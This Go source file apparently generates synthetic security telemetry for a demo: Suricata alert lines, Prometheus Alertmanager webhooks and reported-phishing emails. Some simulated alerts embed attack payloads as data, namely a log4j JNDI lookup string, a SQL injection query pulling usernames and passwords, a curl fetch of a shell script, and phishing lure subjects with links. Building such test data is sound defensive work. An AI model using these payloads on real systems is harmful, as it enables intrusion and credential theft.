package demo

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"net/url"
	"slices"
	"strings"
	"time"
)

// Network and infrastructure: Suricata, Prometheus Alertmanager and the
// phishing mailbox.

// ---- Suricata: eve.json lines ----

type suricataSig struct {
	w         int
	sid       int
	msg       string
	category  string
	severity  int    // classification priority, 1 most severe
	inbound   bool   // from the internet towards a server
	proto     string // TCP or UDP
	port      int    // destination port
	app       string // app_proto
	mitre     []string
	sigSev    string // Emerging Threats signature_severity metadata
	appLayer  func(g *gen, d doc, src, dst string)
	internals []string // server prefixes a flow involves; nil for workstations
}

func (s suricataSig) weight() int { return s.w }

var suricataSigs = []suricataSig{
	{w: 1, sid: 2024897, msg: "ET MALWARE Cobalt Strike Beacon Observed", category: "A Network Trojan was detected", severity: 1,
		proto: "TCP", port: 80, app: "http", mitre: []string{"T1071"}, sigSev: "Major",
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, g.badDomain(), "/jquery-3.3.1.min.js", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko", "GET", 200)
		}},
	{w: 5, sid: 2013028, msg: "ET POLICY curl User-Agent Outbound", category: "Attempted Information Leak", severity: 2,
		proto: "TCP", port: 80, app: "http", sigSev: "Informational", internals: []string{"web-prod", "api-prod", "k8s-node", "jenkins"},
		appLayer: func(g *gen, d doc, _, dst string) {
			d["http"] = httpLayer(g, dst, "/"+g.hex(3)+".sh", "curl/8.4.0", "GET", 200)
		}},
	{w: 8, sid: 2001219, msg: "ET SCAN Potential SSH Scan", category: "Attempted Information Leak", severity: 2,
		inbound: true, proto: "TCP", port: 22, app: "ssh", mitre: []string{"T1046"}, sigSev: "Minor", internals: []string{"bastion", "vpn-gw", "web-prod"},
		appLayer: func(g *gen, d doc, _, _ string) {
			d["ssh"] = doc{"client": doc{"proto_version": "2.0", "software_version": pick(g.r, []string{"libssh_0.9.6", "Go", "PUTTY", "paramiko_3.4.0"})},
				"server": doc{"proto_version": "2.0", "software_version": "OpenSSH_9.2p1"}}
		}},
	{w: 4, sid: 2010935, msg: "ET SCAN Suspicious inbound to MSSQL port 1433", category: "Potentially Bad Traffic", severity: 2,
		inbound: true, proto: "TCP", port: 1433, mitre: []string{"T1046"}, sigSev: "Minor", internals: []string{"SQL-FIN", "db-prod"}},
	{w: 3, sid: 2010937, msg: "ET SCAN Suspicious inbound to mySQL port 3306", category: "Potentially Bad Traffic", severity: 2,
		inbound: true, proto: "TCP", port: 3306, mitre: []string{"T1046"}, sigSev: "Minor", internals: []string{"db-prod", "db-stg"}},
	{w: 8, sid: 2402000, msg: "ET DROP Dshield Block Listed Source group 1", category: "Misc Attack", severity: 2,
		inbound: true, proto: "TCP", port: 443, sigSev: "Major", internals: []string{"web-prod", "vpn-gw", "mail"}},
	{w: 5, sid: 2400002, msg: "ET DROP Spamhaus DROP Listed Traffic Inbound group 3", category: "Misc Attack", severity: 2,
		inbound: true, proto: "TCP", port: 25, sigSev: "Major", internals: []string{"mail"}},
	{w: 1, sid: 2049010, msg: "ET MALWARE Observed DNS Query to Known C2 Domain", category: "A Network Trojan was detected", severity: 1,
		proto: "UDP", port: 53, app: "dns", mitre: []string{"T1071.004"}, sigSev: "Major",
		appLayer: func(g *gen, d doc, _, _ string) {
			d["dns"] = doc{"query": []any{doc{"type": "query", "id": g.r.IntN(65536), "rrname": g.badDomain(), "rrtype": "A", "tx_id": 0, "opcode": 0}}}
		}},
	{w: 1, sid: 2034647, msg: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", category: "Attempted Administrator Privilege Gain", severity: 1,
		inbound: true, proto: "TCP", port: 80, app: "http", mitre: []string{"T1190"}, sigSev: "Major", internals: []string{"web-prod", "api-prod"},
		appLayer: func(g *gen, d doc, src, _ string) {
			d["http"] = httpLayer(g, "www."+mailDomain, "/?q=${jndi:ldap://"+src+":1389/a}", "${jndi:ldap://"+src+":1389/a}", "GET", 404)
		}},
	{w: 2, sid: 2016683, msg: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", category: "Web Application Attack", severity: 1,
		inbound: true, proto: "TCP", port: 80, app: "http", mitre: []string{"T1190"}, sigSev: "Major", internals: []string{"web-prod"},
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, "www."+mailDomain, "/products.php?id=1%20UNION%20SELECT%20NULL,username,password%20FROM%20users", "sqlmap/1.7.2#stable (https://sqlmap.org)", "GET", 500)
		}},
	{w: 2, sid: 2011768, msg: "ET WEB_SERVER PHP tags in HTTP POST", category: "Web Application Attack", severity: 1,
		inbound: true, proto: "TCP", port: 80, app: "http", mitre: []string{"T1190"}, sigSev: "Major", internals: []string{"web-prod"},
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, "www."+mailDomain, "/wp-content/plugins/upload.php", "python-requests/2.31.0", "POST", 200)
		}},
	{w: 10, sid: 2210045, msg: "SURICATA STREAM Packet with invalid ack", category: "Generic Protocol Command Decode", severity: 3,
		proto: "TCP", port: 443},
	{w: 6, sid: 2230010, msg: "SURICATA TLS invalid record/traffic", category: "Generic Protocol Command Decode", severity: 3,
		proto: "TCP", port: 443, app: "tls",
		appLayer: func(g *gen, d doc, _, _ string) { d["tls"] = tlsLayer(g, g.badDomain()) }},
	{w: 8, sid: 2013504, msg: "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management", category: "Not Suspicious Traffic", severity: 3,
		proto: "TCP", port: 80, app: "http", sigSev: "Informational", internals: []string{"web-prod", "api-prod", "db-prod", "k8s-node", "jenkins", "gitlab"},
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, "packages.example.org", "/debian/dists/bookworm/InRelease", "Debian APT-HTTP/1.3 (2.6.1)", "GET", 304)
		}},
	{w: 2, sid: 2012887, msg: "ET POLICY Http Client Body contains pass= in cleartext", category: "Potential Corporate Privacy Violation", severity: 1,
		proto: "TCP", port: 80, app: "http", sigSev: "Informational",
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, "portal.example.net", "/login", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "POST", 302)
		}},
	{w: 4, sid: 2030358, msg: "ET INFO TLS Handshake Failure", category: "Potentially Bad Traffic", severity: 3,
		proto: "TCP", port: 443, app: "tls", sigSev: "Informational",
		appLayer: func(g *gen, d doc, _, _ string) { d["tls"] = tlsLayer(g, "api-telemetry.example.net") }},
	{w: 1, sid: 2008581, msg: "ET P2P BitTorrent DHT ping request", category: "Potential Corporate Privacy Violation", severity: 1,
		proto: "UDP", port: 6881, sigSev: "Informational"},
	{w: 1, sid: 2100498, msg: "GPL ATTACK_RESPONSE id check returned root", category: "Potentially Bad Traffic", severity: 2,
		proto: "TCP", port: 80, app: "http", mitre: []string{"T1059"}, sigSev: "Major", internals: []string{"web-prod"},
		appLayer: func(g *gen, d doc, _, dst string) {
			d["http"] = httpLayer(g, dst, "/cgi-bin/status", "curl/7.88.1", "GET", 200)
		}},
	{w: 6, sid: 2027390, msg: "ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent", category: "Unknown Traffic", severity: 3,
		proto: "TCP", port: 80, app: "http", sigSev: "Informational",
		appLayer: func(g *gen, d doc, _, _ string) {
			d["http"] = httpLayer(g, "dmd.metaservices.example.com", "/dms/metadata.svc", "MICROSOFT_DEVICE_METADATA_RETRIEVAL_CLIENT", "POST", 200)
		}},
}

func httpLayer(g *gen, host, path, agent, method string, status int) doc {
	return doc{
		"hostname": host, "url": path, "http_user_agent": agent, "http_content_type": "text/html",
		"http_method": method, "protocol": "HTTP/1.1", "status": status, "length": 100 + g.r.IntN(20000),
	}
}

func tlsLayer(g *gen, sni string) doc {
	return doc{
		"sni": sni, "version": "TLS 1.2", "subject": "CN=" + sni, "issuerdn": "C=US, O=Let's Encrypt, CN=R3",
		"serial": strings.ToUpper(g.hex(9)), "fingerprint": g.sha1(),
		"ja3": doc{"hash": g.md5()}, "ja3s": doc{"hash": g.md5()},
	}
}

func suricataAlert(g *gen, at time.Time) doc {
	s := choose(g.r, suricataSigs)
	var inside asset
	switch {
	case s.internals != nil:
		inside = g.serverOf(s.internals...)
	default:
		inside = g.workstation()
	}
	src, srcPort, dst, dstPort, sensor, iface := inside.ip, g.port(), g.externalIP(), s.port, "sensor-core-01", "eth2"
	if s.inbound {
		src, dst, sensor, iface = g.externalIP(), inside.ip, "sensor-dmz-01", "eth1"
	}
	alert := doc{
		"action": "allowed", "gid": 1, "signature_id": s.sid, "rev": 2 + g.r.IntN(6), "signature": s.msg,
		"category": s.category, "severity": s.severity,
	}
	// Emerging Threats rules carry metadata; the decoder events do not.
	if s.sigSev != "" {
		meta := doc{"signature_severity": []string{s.sigSev}, "deployment": []string{"Perimeter"}, "created_at": []string{"2019_07_26"}, "updated_at": []string{"2024_03_12"}}
		if s.mitre != nil {
			meta["mitre_technique_id"] = s.mitre
		}
		alert["metadata"] = meta
	}
	pkts := 1 + g.r.IntN(20)
	d := doc{
		"timestamp":  isoOffset(at, "000000"),
		"flow_id":    1_000_000_000_000_000 + g.r.Int64N(8_000_000_000_000_000),
		"in_iface":   iface,
		"event_type": "alert",
		"src_ip":     src, "src_port": srcPort, "dest_ip": dst, "dest_port": dstPort,
		"proto":   s.proto,
		"pkt_src": "wire/pcap",
		"alert":   alert,
		"flow": doc{
			"pkts_toserver": pkts, "pkts_toclient": g.r.IntN(pkts + 1), "bytes_toserver": pkts * (60 + g.r.IntN(900)),
			"bytes_toclient": g.r.IntN(20000), "start": isoOffset(at.Add(-time.Duration(g.r.IntN(5000))*time.Millisecond), "000000"),
		},
		"host": sensor,
	}
	if s.app != "" {
		d["app_proto"] = s.app
	}
	if s.appLayer != nil {
		s.appLayer(g, d, src, dst)
	}
	return d
}

// suricataEnvelope writes eve.json lines as a shipper forwards them: now
// and then the flow record of an alerted flow follows its alert (the
// mapper skips it).
func suricataEnvelope(g *gen, docs []json.RawMessage) ([]byte, error) {
	var b []byte
	for _, d := range docs {
		b = append(b, d...)
		b = append(b, '\n')
		if !g.chance(0.1) {
			continue
		}
		flow, err := flowRecord(d)
		if err != nil {
			return nil, err
		}
		b = append(b, flow...)
		b = append(b, '\n')
	}
	return b, nil
}

// flowRecord is the EVE "flow" event closing the flow of an alert.
func flowRecord(alert json.RawMessage) ([]byte, error) {
	var a doc
	if err := json.Unmarshal(alert, &a); err != nil {
		return nil, fmt.Errorf("demo: suricata alert: %w", err)
	}
	f := doc{"event_type": "flow"}
	for _, k := range []string{"timestamp", "flow_id", "in_iface", "src_ip", "src_port", "dest_ip", "dest_port", "proto", "app_proto", "host"} {
		if v, ok := a[k]; ok {
			f[k] = v
		}
	}
	flow, _ := a["flow"].(map[string]any)
	stats := doc{"alerted": true, "state": "closed", "reason": "timeout"}
	for k, v := range flow {
		stats[k] = v
	}
	stats["end"] = a["timestamp"]
	f["flow"] = stats
	return json.Marshal(f)
}

// ---- Prometheus Alertmanager: webhook v4 ----

type amRule struct {
	w     int
	name  string
	expr  string
	build func(g *gen) (labels, annotations doc)
}

func (r amRule) weight() int { return r.w }

func nodeInstance(g *gen) (asset, string) {
	s := g.server()
	for s.os != "linux" {
		s = g.server()
	}
	return s, s.name + "." + dnsSuffix + ":9100"
}

var services = []string{"checkout", "payments", "auth", "search", "orders", "notifications"}

var amRules = []amRule{
	{w: 8, name: "HighErrorRate", expr: `sum(rate(http_requests_total{code=~"5.."}[5m])) by (service) / sum(rate(http_requests_total[5m])) by (service) > 0.05`,
		build: func(g *gen) (doc, doc) {
			svc, sev := pick(g.r, services), "warning"
			if g.chance(0.15) {
				sev = "critical"
			}
			inst := g.serverOf("api-prod")
			return doc{"job": "api", "service": svc, "namespace": "prod", "instance": inst.name + ":8080", "severity": sev, "team": "platform"},
				doc{"summary": "High HTTP 5xx error rate on " + svc,
					"description": fmt.Sprintf("%.1f%% of requests to %s failed over the last 5 minutes (threshold 5%%).", 5+g.r.Float64()*30, svc),
					"runbook_url": "https://runbooks." + dnsSuffix + "/api/high-error-rate"}
		}},
	{w: 2, name: "NodeDown", expr: `up{job="node"} == 0`,
		build: func(g *gen) (doc, doc) {
			_, inst := nodeInstance(g)
			return doc{"job": "node", "instance": inst, "severity": "critical"},
				doc{"summary": "Instance " + inst + " down", "description": inst + " of job node has been down for more than 5 minutes.",
					"runbook_url": "https://runbooks." + dnsSuffix + "/node/node-down"}
		}},
	{w: 8, name: "HostHighCpuLoad", expr: `100 - (avg by(instance) (rate(node_cpu_seconds_total{mode="idle"}[2m])) * 100) > 80`,
		build: func(g *gen) (doc, doc) {
			_, inst := nodeInstance(g)
			return doc{"job": "node", "instance": inst, "severity": "warning"},
				doc{"summary": "Host high CPU load (instance " + inst + ")", "description": fmt.Sprintf("CPU load is > 80%%\n  VALUE = %.1f", 80+g.r.Float64()*20)}
		}},
	{w: 5, name: "HostOutOfMemory", expr: `node_memory_MemAvailable_bytes / node_memory_MemTotal_bytes * 100 < 10`,
		build: func(g *gen) (doc, doc) {
			_, inst := nodeInstance(g)
			return doc{"job": "node", "instance": inst, "severity": "warning"},
				doc{"summary": "Host out of memory (instance " + inst + ")", "description": fmt.Sprintf("Node memory is filling up (< 10%% left)\n  VALUE = %.1f", g.r.Float64()*10)}
		}},
	{w: 4, name: "HostOutOfDiskSpace", expr: `(node_filesystem_avail_bytes * 100) / node_filesystem_size_bytes < 10`,
		build: func(g *gen) (doc, doc) {
			_, inst := nodeInstance(g)
			mount, sev := pick(g.r, []string{"/", "/var", "/data", "/var/lib/docker"}), "warning"
			if g.chance(0.3) {
				sev = "critical"
			}
			return doc{"job": "node", "instance": inst, "mountpoint": mount, "device": "/dev/sda1", "fstype": "ext4", "severity": sev},
				doc{"summary": "Host out of disk space (instance " + inst + ")", "description": fmt.Sprintf("Disk is almost full (< 10%% left)\n  VALUE = %.1f", g.r.Float64()*10),
					"runbook_url": "https://runbooks." + dnsSuffix + "/node/disk"}
		}},
	{w: 8, name: "KubePodCrashLooping", expr: `max_over_time(kube_pod_container_status_waiting_reason{reason="CrashLoopBackOff"}[5m]) >= 1`,
		build: func(g *gen) (doc, doc) {
			svc := pick(g.r, services)
			pod := svc + "-" + g.hex(5)[:9] + "-" + g.hex(3)[:5]
			node := g.serverOf("k8s-node")
			return doc{"job": "kube-state-metrics", "namespace": "prod", "pod": pod, "container": svc, "node": node.name, "severity": "warning"},
				doc{"summary": "Pod is crash looping.", "description": "Pod prod/" + pod + " (" + svc + ") is in waiting state (reason: \"CrashLoopBackOff\").",
					"runbook_url": "https://runbooks.prometheus-operator.dev/runbooks/kubernetes/kubepodcrashlooping"}
		}},
	{w: 3, name: "KubeDeploymentReplicasMismatch", expr: `kube_deployment_spec_replicas != kube_deployment_status_replicas_available`,
		build: func(g *gen) (doc, doc) {
			svc := pick(g.r, services)
			return doc{"job": "kube-state-metrics", "namespace": "prod", "deployment": svc, "severity": "warning"},
				doc{"summary": "Deployment has not matched the expected number of replicas.", "description": "Deployment prod/" + svc + " has not matched the expected number of replicas for longer than 15 minutes."}
		}},
	{w: 3, name: "TargetDown", expr: `100 * (count(up == 0) BY (job, namespace, service) / count(up) BY (job, namespace, service)) > 10`,
		build: func(g *gen) (doc, doc) {
			svc := pick(g.r, services)
			return doc{"job": svc, "namespace": "prod", "service": svc, "severity": "warning"},
				doc{"summary": "One or more targets are unreachable.", "description": fmt.Sprintf("%d%% of the %s/%s targets in prod namespace are down.", 10+10*g.r.IntN(9), svc, svc)}
		}},
	{w: 2, name: "SSLCertExpiringSoon", expr: `probe_ssl_earliest_cert_expiry - time() < 86400 * 14`,
		build: func(g *gen) (doc, doc) {
			host := pick(g.r, []string{"vpn", "www", "api", "sso", "mail"}) + "." + mailDomain
			return doc{"job": "blackbox", "instance": host + ":443", "severity": "warning"},
				doc{"summary": "TLS certificate for " + host + " expires soon", "description": fmt.Sprintf("The certificate for %s expires in %d days.", host, 1+g.r.IntN(13))}
		}},
	{w: 4, name: "HighRequestLatency", expr: `histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket[5m])) by (le, service)) > 1`,
		build: func(g *gen) (doc, doc) {
			svc := pick(g.r, services)
			return doc{"job": "api", "service": svc, "namespace": "prod", "severity": "warning"},
				doc{"summary": "High request latency on " + svc, "description": fmt.Sprintf("99th percentile latency of %s is %.2fs (threshold 1s).", svc, 1+g.r.Float64()*4)}
		}},
	{w: 2, name: "PostgresqlTooManyConnections", expr: `sum by (instance) (pg_stat_activity_count) > pg_settings_max_connections * 0.8`,
		build: func(g *gen) (doc, doc) {
			db := g.serverOf("db-prod", "db-stg")
			return doc{"job": "postgres", "instance": db.name + "." + dnsSuffix + ":9187", "severity": "warning"},
				doc{"summary": "Postgresql too many connections (instance " + db.name + ")", "description": fmt.Sprintf("PostgreSQL instance has too many connections (> 80%%).\n  VALUE = %d", 160+g.r.IntN(40))}
		}},
	{w: 5, name: "CPUThrottlingHigh", expr: `sum(increase(container_cpu_cfs_throttled_periods_total[5m])) by (container, pod, namespace) / sum(increase(container_cpu_cfs_periods_total[5m])) by (container, pod, namespace) > 0.25`,
		build: func(g *gen) (doc, doc) {
			svc := pick(g.r, services)
			pod := svc + "-" + g.hex(5)[:9] + "-" + g.hex(3)[:5]
			return doc{"job": "kubelet", "namespace": "prod", "pod": pod, "container": svc, "severity": "info"},
				doc{"summary": "Processes experience elevated CPU throttling.",
					"description": fmt.Sprintf("%d%% throttling of CPU in namespace prod for container %s in pod %s.", 25+g.r.IntN(60), svc, pod)}
		}},
	{w: 1, name: "Watchdog", expr: `vector(1)`,
		build: func(*gen) (doc, doc) {
			return doc{"prometheus": "monitoring/k8s", "severity": "none"},
				doc{"summary": "An alert that should always be firing to certify that Alertmanager is working properly.",
					"description": "This is an alert meant to ensure that the entire alerting pipeline is functional."}
		}},
	{w: 4, name: "FalcoRule", expr: `falco_events{priority=~"Warning|Critical"} > 0`,
		build: func(g *gen) (doc, doc) {
			node := g.serverOf("k8s-node")
			svc := pick(g.r, services)
			rule, sev := pick(g.r, []string{"Terminal shell in container", "Read sensitive file untrusted", "Write below etc"}), "warning"
			if g.chance(0.1) {
				rule, sev = "Outbound Connection to C2 Servers", "critical"
			}
			return doc{"job": "falco", "source": "syscall", "rule": rule, "priority": "Warning", "hostname": node.name,
					"k8s_ns_name": "prod", "k8s_pod_name": svc + "-" + g.hex(4), "category": "security", "severity": sev},
				doc{"summary": "Falco: " + rule, "description": fmt.Sprintf("%s (user=root container=%s image=registry.%s/%s:1.%d)", rule, svc, dnsSuffix, svc, g.r.IntN(40))}
		}},
}

// amFingerprint is stable per label set, as Alertmanager's is.
func amFingerprint(labels doc) string {
	keys := make([]string, 0, len(labels))
	for k := range labels {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	h := fnv.New64a()
	for _, k := range keys {
		fmt.Fprintf(h, "%s\xff%v\xff", k, labels[k])
	}
	return fmt.Sprintf("%016x", h.Sum64())
}

func alertmanagerAlert(g *gen, at time.Time) doc {
	r := choose(g.r, amRules)
	labels, annotations := r.build(g)
	labels["alertname"] = r.name
	status, ends := "firing", "0001-01-01T00:00:00Z"
	if g.chance(0.1) {
		status, ends = "resolved", at.Add(time.Duration(5+g.r.IntN(120))*time.Minute).UTC().Format(time.RFC3339Nano)
	}
	return doc{
		"status":       status,
		"labels":       labels,
		"annotations":  annotations,
		"startsAt":     at.UTC().Format(time.RFC3339Nano),
		"endsAt":       ends,
		"generatorURL": "http://prometheus." + dnsSuffix + ":9090/graph?g0.expr=" + url.QueryEscape(r.expr) + "&g0.tab=1",
		"fingerprint":  amFingerprint(labels),
	}
}

func alertmanagerEnvelope(_ *gen, docs []json.RawMessage) ([]byte, error) {
	return json.Marshal(doc{
		"version": "4", "groupKey": `{}:{}`, "truncatedAlerts": 0, "status": "firing", "receiver": "seliq",
		"groupLabels": doc{}, "commonLabels": doc{}, "commonAnnotations": doc{},
		"externalURL": "http://alertmanager." + dnsSuffix + ":9093",
		"alerts":      docs,
	})
}

// ---- Phishing mailbox: inbound-parse JSON ----

// phishingLures are subjects of the messages users report.
var phishingLures = []func(g *gen) string{
	func(*gen) string { return "Action required: your password expires today" },
	func(g *gen) string { return "Invoice INV-" + g.digits(5) + " is overdue" },
	func(*gen) string { return "DocuSign: Please review and sign your document" },
	func(g *gen) string { return fmt.Sprintf("Shared with you: Q%d bonus structure.xlsx", 1+g.r.IntN(4)) },
	func(g *gen) string {
		return fmt.Sprintf("Voicemail from +1 555 01%02d (0:%02d)", g.r.IntN(100), 10+g.r.IntN(50))
	},
	func(*gen) string { return "Your mailbox is almost full" },
	func(*gen) string { return "Your parcel could not be delivered" },
	func(*gen) string { return "Microsoft 365: unusual sign-in activity" },
}

type mailKind struct {
	w     int
	build func(g *gen, at time.Time) doc
}

func (k mailKind) weight() int { return k.w }

// displayName turns "a.khan" into "A. Khan".
func displayName(user string) string {
	parts := strings.Split(user, ".")
	for i, p := range parts {
		if p != "" {
			parts[i] = strings.ToUpper(p[:1]) + p[1:]
		}
	}
	return strings.Join(parts, ". ")
}

func mailDoc(g *gen, at time.Time, from, to, subject, text string) doc {
	return doc{
		"from": from, "to": to, "subject": subject, "text": text,
		"date":       at.UTC().Format(time.RFC1123Z),
		"message_id": "<" + fmt.Sprintf("%d.%s", at.Unix(), g.hex(6)) + "@mail-01." + dnsSuffix + ">",
		"headers":    "Received: from mail-01." + dnsSuffix + " (10.15.0.24) by mx." + dnsSuffix + "; " + at.UTC().Format(time.RFC1123Z),
	}
}

var mailKinds = []mailKind{
	{w: 12, build: func(g *gen, at time.Time) doc { // a user pressed "Report phishing"
		user, lure, domain := g.user(), pick(g.r, phishingLures)(g), g.badDomain()
		sender := pick(g.r, []string{"billing", "no-reply", "it-support", "hr", "docs", "security"}) + "@" + domain
		link := "https://" + domain + "/" + g.hex(5)
		text := fmt.Sprintf("This message was reported as phishing by %s@%s.\n\n---------- Forwarded message ---------\nFrom: %s\nDate: %s\nSubject: %s\nTo: %s@%s\n\nPlease review the document using the secure link below before end of day.\n%s\n\nSender IP: %s\n",
			user, mailDomain, sender, at.UTC().Format(time.RFC1123Z), lure, user, mailDomain, link, g.externalIP())
		return mailDoc(g, at, displayName(user)+" <"+user+"@"+mailDomain+">", "phishing@"+mailDomain, "[Phish Alert] FW: "+lure, text)
	}},
	{w: 3, build: func(g *gen, at time.Time) doc {
		n, domain := 5+g.r.IntN(60), g.badDomain()
		text := fmt.Sprintf("The mail gateway quarantined %d messages from %s.\nSample URL: https://%s/%s\nSender IP: %s\n", n, domain, domain, g.hex(4), g.externalIP())
		return mailDoc(g, at, "Mail Gateway <mx-alerts@"+dnsSuffix+">", "soc@"+mailDomain, fmt.Sprintf("[HIGH] Credential phishing campaign blocked: %d recipients (%s)", n, domain), text)
	}},
	{w: 5, build: func(g *gen, at time.Time) doc {
		n, domain := 50+g.r.IntN(2000), g.badDomain()
		text := fmt.Sprintf("%d messages from %s were quarantined as bulk spam.\nSender IPs: %s, %s\n", n, domain, g.externalIP(), g.externalIP())
		return mailDoc(g, at, "Mail Gateway <mx-alerts@"+dnsSuffix+">", "soc@"+mailDomain, fmt.Sprintf("[LOW] Spam wave quarantined from %s: %d messages", domain, n), text)
	}},
	{w: 1, build: func(g *gen, at time.Time) doc {
		user := g.user()
		file := "Remittance_" + g.digits(6) + ".zip"
		text := fmt.Sprintf("Sandbox verdict arrived after delivery.\nRecipient: %s@%s\nAttachment: %s\nSHA-256: %s\nVerdict: malicious (Qakbot loader)\n", user, mailDomain, file, g.sha256())
		return mailDoc(g, at, "Mail Gateway <mx-alerts@"+dnsSuffix+">", "soc@"+mailDomain, "[CRITICAL] Malicious attachment delivered before verdict: "+file, text)
	}},
	{w: 3, build: func(g *gen, at time.Time) doc {
		n := 20 + g.r.IntN(400)
		text := fmt.Sprintf("%d messages are held in quarantine. Review them in the gateway console.\n", n)
		return mailDoc(g, at, "Mail Gateway <mx-alerts@"+dnsSuffix+">", "soc@"+mailDomain, fmt.Sprintf("[INFO] Quarantine digest for %s: %d messages held", at.UTC().Format("2006-01-02"), n), text)
	}},
}

func emailReport(g *gen, at time.Time) doc { return choose(g.r, mailKinds).build(g, at) }
